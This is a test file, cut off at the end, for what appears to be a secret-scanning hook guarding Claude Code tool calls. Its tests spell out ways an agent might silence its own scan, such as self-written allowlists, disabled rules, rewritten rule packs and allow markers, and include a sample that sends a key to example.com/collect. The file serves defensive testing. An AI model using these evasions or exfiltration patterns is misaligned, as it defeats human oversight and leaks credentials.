//! `staunch hook claude-code` (the Claude Code PreToolUse hook) fed real hook JSON on stdin, and
//! `staunch install/uninstall --claude-code` on real settings files.

use serde_json::{json, Value};

use crate::util::*;

/// What one hook run gave: exit code, stdout, stderr.
struct HookRun {
    code: i32,
    stdout: String,
    stderr: String,
}

fn hook_raw(repo: &TestRepo, stdin: &[u8]) -> HookRun {
    let out = repo.run(&["hook", "claude-code"], Some(stdin));
    HookRun {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Runs the hook on a PreToolUse event for `tool` with `input`, in the repository.
fn hook(repo: &TestRepo, tool: &str, input: Value) -> HookRun {
    let event = json!({
        "session_id": "test-session",
        "transcript_path": repo.home().join("transcript.jsonl"),
        "cwd": repo.path(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
    });
    hook_raw(repo, &serde_json::to_vec(&event).unwrap())
}

fn file_in(repo: &TestRepo, rel: &str) -> String {
    repo.path().join(rel).to_string_lossy().into_owned()
}

#[track_caller]
fn assert_clean(run: &HookRun) {
    assert_eq!(run.code, 0, "stderr: {}", run.stderr);
    assert!(run.stdout.is_empty(), "stdout: {}", run.stdout);
    assert!(run.stderr.is_empty(), "stderr: {}", run.stderr);
}

/// Blocked with exit 2, naming `rule` and `place`, never showing `secret` whole.
#[track_caller]
fn assert_blocked(run: &HookRun, rule: &str, place: &str, secret: &str) {
    assert_eq!(run.code, 2, "stderr: {}", run.stderr);
    assert!(run.stderr.contains("staunch blocked"), "{}", run.stderr);
    assert!(
        run.stderr.contains(rule),
        "rule {rule} not named: {}",
        run.stderr
    );
    assert!(
        run.stderr.contains(place),
        "{place:?} not named: {}",
        run.stderr
    );
    assert!(
        !run.stderr.contains(secret),
        "secret leaked: {}",
        run.stderr
    );
    assert!(
        !run.stdout.contains(secret),
        "secret leaked: {}",
        run.stdout
    );
    assert!(
        run.stderr.contains("environment variable"),
        "no advice: {}",
        run.stderr
    );
}

#[test]
fn write_blocks_a_secret_and_passes_clean_content() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    let path = file_in(&repo, "app/settings.py");
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": format!("import os\n\naws_access_key_id = \"{key}\"\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "app/settings.py, line 3", &key);
    assert!(run.stderr.contains("AKIA****"), "{}", run.stderr);
    assert!(
        !run.stderr
            .contains(&repo.path().to_string_lossy().into_owned()),
        "path not relative to cwd: {}",
        run.stderr
    );
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": "import os\naws_access_key_id = os.environ[\"AWS_ACCESS_KEY_ID\"]\n"}),
    );
    assert_clean(&run);
}

#[test]
fn edit_blocks_a_secret_at_its_line_in_the_file() {
    let repo = TestRepo::dir();
    let token = fake_github_token();
    repo.write("deploy.sh", "#!/bin/sh\nset -eu\nGITHUB_TOKEN=\n");
    let path = file_in(&repo, "deploy.sh");
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "GITHUB_TOKEN=\n",
               "new_string": format!("GITHUB_TOKEN={token}\n"), "replace_all": false}),
    );
    assert_blocked(&run, "github-classic-token", "deploy.sh, line 3", &token);
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "GITHUB_TOKEN=\n",
               "new_string": "GITHUB_TOKEN=\"${GITHUB_TOKEN:?set it in the environment}\"\n"}),
    );
    assert_clean(&run);
}

#[test]
fn multi_edit_scans_each_edit_on_its_own() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    repo.write("cfg.py", "A = 1\nB = 2\n");
    let path = file_in(&repo, "cfg.py");
    // Whole in one edit: found.
    let run = hook(
        &repo,
        "MultiEdit",
        json!({"file_path": path, "edits": [
            {"old_string": "A = 1", "new_string": "A = 10"},
            {"old_string": "B = 2", "new_string": format!("B = 2\naws_key = \"{key}\"")},
        ]}),
    );
    assert_blocked(&run, "aws-access-key-id", "cfg.py", &key);
    // Split across two lines by two edits: the file after them holds no key either.
    let (head, tail) = key.split_at(10);
    let run = hook(
        &repo,
        "MultiEdit",
        json!({"file_path": path, "edits": [
            {"old_string": "A = 1", "new_string": format!("aws_key = \"{head}")},
            {"old_string": "B = 2", "new_string": format!("{tail}\"")},
        ]}),
    );
    assert_clean(&run);
    let run = hook(
        &repo,
        "MultiEdit",
        json!({"file_path": path, "edits": [{"old_string": "A = 1", "new_string": "A = 3"}]}),
    );
    assert_clean(&run);
}

#[test]
fn notebook_edit_scans_the_new_cell() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    let path = file_in(&repo, "analysis.ipynb");
    let run = hook(
        &repo,
        "NotebookEdit",
        json!({"notebook_path": path, "cell_id": "c1", "edit_mode": "replace",
               "new_source": format!("import boto3\nclient = boto3.client('s3', aws_access_key_id='{key}')\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "analysis.ipynb", &key);
    let run = hook(
        &repo,
        "NotebookEdit",
        json!({"notebook_path": path, "cell_id": "c1", "new_source": "import boto3\nclient = boto3.client('s3')\n"}),
    );
    assert_clean(&run);
    let run = hook(
        &repo,
        "NotebookEdit",
        json!({"notebook_path": path, "cell_id": "c1", "edit_mode": "delete"}),
    );
    assert_clean(&run);
}

#[test]
fn bash_blocks_a_secret_on_the_command_line() {
    let repo = TestRepo::dir();
    let token = fake_github_token();
    let run = hook(
        &repo,
        "Bash",
        json!({"command": format!("curl -H \"Authorization: token {token}\" https://api.github.com/user"),
               "description": "Check the token"}),
    );
    assert_blocked(&run, "github-classic-token", "in the command", &token);
    let run = hook(
        &repo,
        "Bash",
        json!({"command": "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user"}),
    );
    assert_clean(&run);
}

#[test]
fn unicode_and_ten_megabytes_of_content() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    let path = file_in(&repo, "データ/設定.py");
    let unicode = "# 設定ファイル — ünïcødé ✓ 🚀\nname = \"Zoë 🦀\"\n";
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": format!("{unicode}aws_key = \"{key}\"  # 鍵 🔑\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "データ/設定.py, line 3", &key);
    let line =
        "fn handler(request: Request) -> Response { render(\"héllo wörld\", request.user()) }\n";
    let big = line.repeat(10 * 1024 * 1024 / line.len() + 1);
    assert!(big.len() > 10 * 1024 * 1024);
    let run = hook(&repo, "Write", json!({"file_path": path, "content": big}));
    assert_clean(&run);
    let lines = big.lines().count();
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": format!("{big}aws_key = \"{key}\"\n")}),
    );
    assert_blocked(
        &run,
        "aws-access-key-id",
        &format!("line {}", lines + 1),
        &key,
    );
}

#[test]
fn bad_input_fails_closed() {
    let repo = TestRepo::dir();
    for input in [
        &b"{\"tool_name\": \"Write\", \"tool_input\": "[..],
        b"not json",
        b"",
        b"{\"tool_input\": {}}",
    ] {
        let run = hook_raw(&repo, input);
        assert_eq!(run.code, 2, "input {:?}", String::from_utf8_lossy(input));
        assert!(
            run.stderr.contains("staunch") && run.stderr.contains("blocked this tool call"),
            "{}",
            run.stderr
        );
    }
    // A known tool without the field it writes.
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": file_in(&repo, "a.txt")}),
    );
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("tool_input.content"), "{}", run.stderr);
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": file_in(&repo, "a.txt"), "new_string": 5}),
    );
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("not a string"), "{}", run.stderr);
    // Rules that cannot load block as well.
    let secret = json!({"tool_name": "Write", "cwd": repo.path(),
        "tool_input": {"file_path": "x.py", "content": "x = 1\n"}});
    let out = repo.run(
        &["hook", "claude-code", "--rules", "missing-pack.toml"],
        Some(&serde_json::to_vec(&secret).unwrap()),
    );
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("blocked this tool call") && stderr.contains("missing-pack.toml"),
        "{stderr}"
    );
}

#[test]
fn the_session_repository_config_applies() {
    let repo = committed(&[(".staunch.toml", "[[allow]]\npaths = [\"fixtures/**\"]\n")]);
    let key = fake_aws_key();
    let content = format!("aws_key = \"{key}\"\n");
    // The hook runs from anywhere: the event's cwd picks the repository.
    let elsewhere = TestRepo::dir();
    let event = |rel: &str| {
        serde_json::to_vec(&json!({"tool_name": "Write", "cwd": repo.path(),
            "tool_input": {"file_path": file_in(&repo, rel), "content": content}}))
        .unwrap()
    };
    assert_clean(&hook_raw(&elsewhere, &event("fixtures/fake_keys.py")));
    assert_blocked(
        &hook_raw(&elsewhere, &event("src/app.py")),
        "aws-access-key-id",
        "src/app.py",
        &key,
    );
    // A committed config that does not parse blocks, naming it.
    repo.commit_file(".staunch.toml", "[[allow]\n", "broken config");
    let run = hook_raw(&elsewhere, &event("src/app.py"));
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("blocked this tool call") && run.stderr.contains(".staunch.toml"),
        "{}",
        run.stderr
    );
}

#[test]
fn only_severities_the_policy_blocks_block() {
    let repo = committed(&[(".staunch.toml", "[policy]\nblock = [\"high\"]\n")]);
    let path = file_in(&repo, "conf/hosts.env");
    // A private address is low severity: let through, noted for the user.
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": "DB_HOST=10.24.61.8\n"}),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("does not block"), "{}", run.stderr);
    let key = fake_aws_key();
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": format!("DB_HOST=10.24.61.8\nKEY={key}\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "conf/hosts.env, line 2", &key);
    assert!(!run.stderr.contains("private-ipv4"), "{}", run.stderr);
}

#[test]
fn other_tools_pass_silently() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    for tool in ["Read", "Grep", "Glob", "TodoWrite"] {
        let run = hook(
            &repo,
            tool,
            json!({"file_path": file_in(&repo, "a.py"), "pattern": key, "content": key}),
        );
        assert_clean(&run);
    }
}

// ---- what the agent cannot do to its own scan ----------------------------------------------

/// A second fake AWS key, distinct from [`fake_aws_key`].
fn other_aws_key() -> String {
    format!("AKIA{}", "ZR3KW6NC5TYQ2VHM")
}

/// A repository with one commit (so HEAD exists) holding `files`.
fn committed(files: &[(&str, &str)]) -> TestRepo {
    let repo = TestRepo::git_init();
    repo.write("README.md", "# project\n");
    repo.add("README.md");
    for (path, content) in files {
        repo.write(path, content);
        repo.add(path);
    }
    repo.commit("initial");
    repo
}

#[test]
fn allow_files_the_agent_wrote_do_not_silence_the_hook() {
    let key = fake_aws_key();
    let write = |repo: &TestRepo| {
        hook(
            repo,
            "Write",
            json!({"file_path": file_in(repo, "app.py"), "content": format!("aws_key = \"{key}\"\n")}),
        )
    };
    // Each allow mechanism written into the work tree by the agent, never committed.
    type Files<'a> = &'a [(&'a str, &'a str)];
    let cases: [(&str, Files, Files); 5] = [
        ("config allowlist", &[], &[(".staunch.toml", "[[allow]]\npaths = [\"**\"]\n")]),
        ("config disables the rule", &[], &[(".staunch.toml", "[rules]\ndisable = [\"aws-access-key-id\"]\n")]),
        ("severity policy", &[], &[(".staunch.toml", "[policy]\nblock = []\n")]),
        (".gitleaksignore", &[], &[(".gitleaksignore", "app.py:aws-access-key-id:1\n")]),
        (
            "rule pack allowlist",
            &[(".staunch.toml", "[rules]\npacks = [\"security/pack.toml\"]\n"),
              ("security/pack.toml", "[[rules]]\nid = \"acme-token\"\nregex = '''acme_[a-z0-9]{20}'''\nkeywords = [\"acme_\"]\n")],
            &[("security/pack.toml", "[[rules]]\nid = \"acme-token\"\nregex = '''acme_[a-z0-9]{20}'''\nkeywords = [\"acme_\"]\n[allowlist]\npaths = ['''.*''']\n")],
        ),
    ];
    for (name, in_head, in_work_tree) in cases {
        let repo = committed(in_head);
        for (path, content) in in_work_tree {
            repo.write(path, content);
        }
        let run = write(&repo);
        assert_eq!(run.code, 2, "{name}: {}", run.stderr);
        assert_blocked(&run, "aws-access-key-id", "app.py, line 1", &key);
    }
}

#[test]
fn a_baseline_counts_only_once_committed() {
    let key = fake_aws_key();
    let repo = committed(&[(".staunch.toml", "baseline = \".staunch-baseline.json\"\n")]);
    // The agent records its own secret in the baseline (as `staunch baseline create` would,
    // which records what the index tracks).
    repo.write("app.py", format!("aws_key = \"{key}\"\n"));
    repo.add("app.py");
    let out = repo.run(&["baseline", "create", "app.py"], None);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    repo.git(&["rm", "-q", "--cached", "app.py"]);
    std::fs::remove_file(repo.path().join("app.py")).unwrap();
    let event =
        json!({"file_path": file_in(&repo, "app.py"), "content": format!("aws_key = \"{key}\"\n")});
    assert_blocked(
        &hook(&repo, "Write", event.clone()),
        "aws-access-key-id",
        "app.py",
        &key,
    );
    // Committed, the baseline is the team's decision and applies.
    repo.add(".staunch-baseline.json");
    repo.commit("baseline");
    assert_clean(&hook(&repo, "Write", event));
}

#[test]
fn a_rule_pack_is_read_as_committed() {
    let token = format!("acme_{}", "k3j5h7g9f2d4s6a8q1w3");
    let pack = "[[rules]]\nid = \"acme-token\"\ndescription = \"Acme token\"\nregex = '''acme_[a-z0-9]{20}'''\nkeywords = [\"acme_\"]\n";
    let repo = committed(&[
        (
            ".staunch.toml",
            "[rules]\npacks = [\"security/pack.toml\"]\n",
        ),
        ("security/pack.toml", pack),
    ]);
    // The agent rewrites the pack so that its rule no longer matches.
    repo.write(
        "security/pack.toml",
        "[[rules]]\nid = \"acme-token\"\ndescription = \"Acme token\"\nregex = '''acme_NEVER'''\nkeywords = [\"acme_\"]\n",
    );
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": file_in(&repo, "deploy.env"), "content": format!("ACME={token}\n")}),
    );
    assert_blocked(&run, "acme-token", "deploy.env, line 1", &token);
}

#[test]
fn without_a_commit_only_the_defaults_apply() {
    let key = fake_aws_key();
    // A fresh repository: nothing is committed, so nothing in it is trusted.
    let repo = TestRepo::git_init();
    repo.write(".staunch.toml", "[[allow]]\npaths = [\"**\"]\n");
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": file_in(&repo, "app.py"), "content": format!("aws_key = \"{key}\"  # staunch:allow\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "app.py, line 1", &key);
    // No repository at all: the same.
    let dir = TestRepo::dir();
    dir.write(".staunch.toml", "[[allow]]\npaths = [\"**\"]\n");
    dir.write(".gitleaksignore", "app.py:aws-access-key-id:1\n");
    let run = hook(
        &dir,
        "Write",
        json!({"file_path": file_in(&dir, "app.py"), "content": format!("aws_key = \"{key}\"\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "app.py, line 1", &key);
}

#[test]
fn an_inline_marker_counts_only_on_a_committed_line() {
    let (old, new) = (fake_aws_key(), other_aws_key());
    let legacy = format!("legacy_key = \"{old}\"  # staunch:allow (rotated, kept for the tests)");
    let repo = committed(&[("tests/keys.py", &format!("{legacy}\n"))]);
    let path = file_in(&repo, "tests/keys.py");
    // Rewriting the file keeps the committed marked line allowed...
    assert_clean(&hook(
        &repo,
        "Write",
        json!({"file_path": path, "content": format!("{legacy}\nother = 1\n")}),
    ));
    // ...but a marker the agent adds to its own new line does not count, whichever marker.
    for marker in [
        "# staunch:allow",
        "# gitleaks:allow",
        "# pragma: allowlist secret",
    ] {
        let run = hook(
            &repo,
            "Write",
            json!({"file_path": path, "content": format!("{legacy}\nnew_key = \"{new}\"  {marker}\n")}),
        );
        assert_blocked(&run, "aws-access-key-id", "tests/keys.py, line 2", &new);
        assert!(!run.stderr.contains("line 1"), "{}", run.stderr);
        let run = hook(
            &repo,
            "Edit",
            json!({"file_path": path, "old_string": legacy,
                   "new_string": format!("{legacy}\nnew_key = \"{new}\"  {marker}")}),
        );
        assert_blocked(&run, "aws-access-key-id", "tests/keys.py, line 2", &new);
    }
    // Moving the committed line to another file is a new line there.
    let run = hook(
        &repo,
        "Write",
        json!({"file_path": file_in(&repo, "src/app.py"), "content": format!("{legacy}\n")}),
    );
    assert_blocked(&run, "aws-access-key-id", "src/app.py, line 1", &old);
}

#[test]
fn an_edit_is_scanned_as_the_file_will_be() {
    let key = fake_aws_key();
    let (head, tail) = key.split_at(10);
    let repo = TestRepo::git_init();
    repo.write(
        "settings.py",
        format!("import os\naws_key = \"{head}_FILL_ME_IN\"\n"),
    );
    let path = file_in(&repo, "settings.py");
    // The new text alone holds no key; the file after the edit does.
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "_FILL_ME_IN\"", "new_string": format!("{tail}\"")}),
    );
    assert_blocked(&run, "aws-access-key-id", "settings.py, line 2", &key);
    // The same across the edits of one MultiEdit.
    repo.write(
        "settings.py",
        "import os\naws_key = \"PART_ONE-PART_TWO\"\n",
    );
    let run = hook(
        &repo,
        "MultiEdit",
        json!({"file_path": path, "edits": [
            {"old_string": "PART_ONE", "new_string": head},
            {"old_string": "-PART_TWO", "new_string": tail},
        ]}),
    );
    assert_blocked(&run, "aws-access-key-id", "settings.py, line 2", &key);
    // replace_all: every place the text lands.
    repo.write("settings.py", "A = \"KEY_HERE\"\nB = 2\nC = \"KEY_HERE\"\n");
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "KEY_HERE", "new_string": key, "replace_all": true}),
    );
    assert_blocked(&run, "aws-access-key-id", "settings.py, line 3", &key);
    assert!(run.stderr.contains("settings.py, line 1"), "{}", run.stderr);
    // A file that is not there yet: the new text alone.
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": file_in(&repo, "new.py"), "old_string": "", "new_string": format!("x = 1\nk = \"{key}\"\n")}),
    );
    assert_blocked(
        &run,
        "aws-access-key-id",
        "new.py, line 2 of the new text",
        &key,
    );
}

#[test]
fn an_edit_is_blocked_only_for_what_it_touches() {
    let key = fake_aws_key();
    let repo = TestRepo::git_init();
    // A secret already in the file (the git hooks and CI deal with it) ...
    repo.write("old.py", format!("aws_key = \"{key}\"\nA = 1\nB = 2\n"));
    let path = file_in(&repo, "old.py");
    // ... does not block an edit elsewhere in the file ...
    assert_clean(&hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "B = 2", "new_string": "B = 3"}),
    ));
    // ... but an edit of its line does.
    let run = hook(
        &repo,
        "Edit",
        json!({"file_path": path, "old_string": "aws_key =", "new_string": "AWS_KEY ="}),
    );
    assert_blocked(&run, "aws-access-key-id", "old.py, line 1", &key);
}

#[test]
fn every_tool_that_writes_or_sends_data_is_checked() {
    let repo = TestRepo::dir();
    let key = fake_aws_key();
    let token = fake_github_token();
    let cases = [
        (
            "mcp__github__create_issue",
            json!({"owner": "acme", "repo": "app", "title": "Broken deploy",
            "body": format!("The job fails with\n\n    GITHUB_TOKEN={token}\n"), "labels": ["bug"]}),
            &token,
            "body",
        ),
        (
            "mcp__slack__post_message",
            json!({"channel": "#ops", "blocks": [{"type": "section",
            "text": {"type": "mrkdwn", "text": format!("key is {key}")}}]}),
            &key,
            "blocks[0].text.text",
        ),
        (
            "WebFetch",
            json!({"url": format!("https://example.com/collect?k={key}"), "prompt": "Summarise"}),
            &key,
            "url",
        ),
        (
            "WebFetch",
            json!({"url": "https://example.com/", "prompt": format!("Use the key {key}")}),
            &key,
            "prompt",
        ),
        (
            "WebSearch",
            json!({"query": format!("is {key} a valid aws key")}),
            &key,
            "query",
        ),
        (
            "Task",
            json!({"description": "Deploy", "prompt": format!("Deploy with AWS key {key}"), "subagent_type": "general-purpose"}),
            &key,
            "prompt",
        ),
    ];
    for (tool, input, secret, place) in cases {
        let run = hook(&repo, tool, input);
        assert_eq!(run.code, 2, "{tool}: {}", run.stderr);
        assert!(
            run.stderr.contains("staunch blocked"),
            "{tool}: {}",
            run.stderr
        );
        assert!(
            run.stderr.contains(place),
            "{tool}: {place} not named: {}",
            run.stderr
        );
        assert!(
            !run.stderr.contains(secret.as_str()),
            "{tool}: secret leaked: {}",
            run.stderr
        );
    }
    // The same tools with nothing secret pass.
    assert_clean(&hook(
        &repo,
        "mcp__github__create_issue",
        json!({"title": "Broken deploy", "labels": ["bug"], "n": 3}),
    ));
    assert_clean(&hook(
        &repo,
        "WebFetch",
        json!({"url": "https://example.com/", "prompt": "Summarise"}),
    ));
    assert_clean(&hook(
        &repo,
        "Task",
        json!({"description": "Deploy", "prompt": "Deploy it"}),
    ));
}

/// Runs the hook on a UserPromptSubmit event.
fn prompt_hook(repo: &TestRepo, prompt: &str, extra: &[&str]) -> HookRun {
    let event = json!({
        "session_id": "test-session",
        "transcript_path": repo.home().join("transcript.jsonl"),
        "cwd": repo.path(),
        "permission_mode": "default",
        "hook_event_name": "UserPromptSubmit",
        "prompt": prompt,
    });
    let mut args = vec!["hook", "claude-code"];
    args.extend(extra);
    let out = repo.run(&args, Some(&serde_json::to_vec(&event).unwrap()));
    HookRun {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn a_prompt_carrying_a_secret_is_blocked() {
    let repo = committed(&[]);
    let token = fake_github_token();
    let run = prompt_hook(
        &repo,
        &format!("why does curl -H 'Authorization: token {token}' fail?"),
        &[],
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("staunch blocked this prompt"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("github-classic-token"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains(&token) && !run.stdout.contains(&token),
        "{}",
        run.stderr
    );
    assert_clean(&prompt_hook(
        &repo,
        "why does curl -H \"Authorization: token $GITHUB_TOKEN\" fail?",
        &[],
    ));
}

#[test]
fn json_output_denies_with_a_reason() {
    let repo = committed(&[]);
    let key = fake_aws_key();
    let event = json!({"hook_event_name": "PreToolUse", "cwd": repo.path(), "tool_name": "Write",
        "tool_input": {"file_path": file_in(&repo, "a.py"), "content": format!("k = \"{key}\"\n")}});
    let out = repo.run(
        &["hook", "claude-code", "--json-output"],
        Some(&serde_json::to_vec(&event).unwrap()),
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let output = &doc["hookSpecificOutput"];
    assert_eq!(output["hookEventName"], "PreToolUse");
    assert_eq!(output["permissionDecision"], "deny");
    let reason = output["permissionDecisionReason"].as_str().unwrap();
    assert!(
        reason.contains("aws-access-key-id") && reason.contains("a.py, line 1"),
        "{reason}"
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&key));
    // A prompt: the documented `decision: block`.
    let run = prompt_hook(&repo, &format!("use {key}"), &["--json-output"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(doc["decision"], "block");
    assert!(
        doc["reason"]
            .as_str()
            .unwrap()
            .contains("aws-access-key-id"),
        "{doc}"
    );
    assert!(!run.stdout.contains(&key));
    // Clean: no output at all.
    assert_clean(&prompt_hook(&repo, "hello", &["--json-output"]));
    // An error still blocks with exit 2, whatever the output mode.
    let out = repo.run(&["hook", "claude-code", "--json-output"], Some(b"not json"));
    assert_eq!(out.status.code(), Some(2));
}

/// Runs an installed hook command the way Claude Code does (through a shell), with `path` as
/// PATH and `stdin` as the hook input.
fn run_installed(repo: &TestRepo, command: &str, path: &str, stdin: &[u8]) -> HookRun {
    let mut cmd = std::process::Command::new("/bin/sh");
    cmd.args(["-c", command]).current_dir(repo.path());
    repo.env(&mut cmd);
    cmd.env("PATH", path);
    let out = run_with_stdin(cmd, Some(stdin));
    HookRun {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn the_installed_command_finds_staunch_on_any_machine_or_blocks() {
    let repo = TestRepo::git_init();
    run_ok(&repo, &["install", "--claude-code"]);
    let doc = settings(&repo.path().join(".claude/settings.json"));
    let command = staunch_groups(&doc)[0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let bin = staunch_bin();
    // Nothing of this machine is in the shared settings file.
    assert!(!command.contains(bin.to_str().unwrap()), "{command}");
    let key = fake_aws_key();
    let secret = serde_json::to_vec(&json!({"hook_event_name": "PreToolUse", "cwd": repo.path(),
        "tool_name": "Write", "tool_input": {"file_path": file_in(&repo, "a.py"), "content": format!("k = \"{key}\"\n")}}))
    .unwrap();
    let clean = serde_json::to_vec(&json!({"hook_event_name": "PreToolUse", "cwd": repo.path(),
        "tool_name": "Write", "tool_input": {"file_path": file_in(&repo, "a.py"), "content": "k = 1\n"}}))
    .unwrap();
    // A teammate without staunch: blocked, with how to install it.
    let empty = tempfile::tempdir().unwrap();
    let run = run_installed(&repo, &command, empty.path().to_str().unwrap(), &clean);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("cargo install"), "{}", run.stderr);
    // With staunch on PATH: it runs, and blocks or allows.
    let dir = bin.parent().unwrap().to_str().unwrap();
    let run = run_installed(&repo, &command, dir, &secret);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("aws-access-key-id"), "{}", run.stderr);
    let run = run_installed(&repo, &command, dir, &clean);
    assert_eq!(run.code, 0, "{}", run.stderr);
    // A staunch that crashes (any exit but 0 and 2, which Claude Code would not treat as a
    // block) blocks too.
    let fake = tempfile::tempdir().unwrap();
    let script = fake.path().join("staunch");
    std::fs::write(&script, "#!/bin/sh\nexit 101\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let run = run_installed(&repo, &command, fake.path().to_str().unwrap(), &clean);
    assert_eq!(run.code, 2, "{}", run.stderr);
}

#[test]
fn install_covers_every_tool_and_the_prompt() {
    let repo = TestRepo::git_init();
    run_ok(&repo, &["install", "--claude-code"]);
    let doc = settings(&repo.path().join(".claude/settings.json"));
    let groups = staunch_groups(&doc);
    assert_eq!(groups.len(), 1, "{doc}");
    let matcher =
        regex::Regex::new(&format!("^(?:{})$", groups[0]["matcher"].as_str().unwrap())).unwrap();
    for tool in [
        "Write",
        "Edit",
        "MultiEdit",
        "NotebookEdit",
        "Bash",
        "WebFetch",
        "WebSearch",
        "Task",
        "mcp__github__create_issue",
        "mcp__slack__post_message",
    ] {
        assert!(matcher.is_match(tool), "{tool} not covered by {matcher}");
    }
    let prompt = doc["hooks"]["UserPromptSubmit"]
        .as_array()
        .expect("a UserPromptSubmit hook");
    assert_eq!(prompt.len(), 1, "{doc}");
    assert_eq!(
        prompt[0]["hooks"][0]["command"],
        groups[0]["hooks"][0]["command"]
    );
    run_ok(&repo, &["uninstall", "--claude-code"]);
    // install created the file; with nothing else in it, uninstall takes it away again
    assert!(!repo.path().join(".claude").exists());
}

// ---- install / uninstall --claude-code ---------------------------------------------------------

fn settings(path: &std::path::Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// The PreToolUse groups whose hooks include staunch's.
fn staunch_groups(doc: &Value) -> Vec<Value> {
    doc["hooks"]["PreToolUse"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|g| {
            g["hooks"].as_array().into_iter().flatten().any(|h| {
                h["command"]
                    .as_str()
                    .is_some_and(|c| c.contains("staunch") && c.contains("hook claude-code"))
            })
        })
        .cloned()
        .collect()
}

fn run_ok(repo: &TestRepo, args: &[&str]) {
    let out = repo.run(args, None);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{args:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn install_creates_settings_with_one_staunch_entry() {
    let repo = TestRepo::git_init();
    run_ok(&repo, &["install", "--claude-code"]);
    let doc = settings(&repo.path().join(".claude/settings.json"));
    let groups = staunch_groups(&doc);
    assert_eq!(groups.len(), 1, "{doc}");
    let hook = &groups[0]["hooks"][0];
    assert_eq!(hook["type"], "command");
    assert!(hook["command"]
        .as_str()
        .unwrap()
        .contains("staunch hook claude-code"));
}

#[test]
fn install_merges_is_idempotent_and_uninstall_restores() {
    let repo = TestRepo::git_init();
    let original = json!({
        "permissions": {"allow": ["Bash(npm test:*)"], "deny": ["Read(./.env)"]},
        "env": {"FOO": "bar"},
        "hooks": {
            "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./audit.sh"}]}],
            "PostToolUse": [{"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "prettier --write"}]}]
        },
        "model": "opus"
    });
    let file = repo.path().join(".claude/settings.json");
    repo.write(
        ".claude/settings.json",
        serde_json::to_string_pretty(&original).unwrap(),
    );
    run_ok(&repo, &["install", "--claude-code"]);
    run_ok(&repo, &["install", "--claude-code"]);
    let doc = settings(&file);
    assert_eq!(staunch_groups(&doc).len(), 1, "duplicated: {doc}");
    for key in ["permissions", "env", "model"] {
        assert_eq!(doc[key], original[key], "{key} changed");
    }
    assert_eq!(
        doc["hooks"]["PostToolUse"],
        original["hooks"]["PostToolUse"]
    );
    assert_eq!(
        doc["hooks"]["PreToolUse"][0],
        original["hooks"]["PreToolUse"][0]
    );
    assert_eq!(doc["hooks"]["PreToolUse"].as_array().unwrap().len(), 2);
    run_ok(&repo, &["uninstall", "--claude-code"]);
    assert_eq!(settings(&file), original);
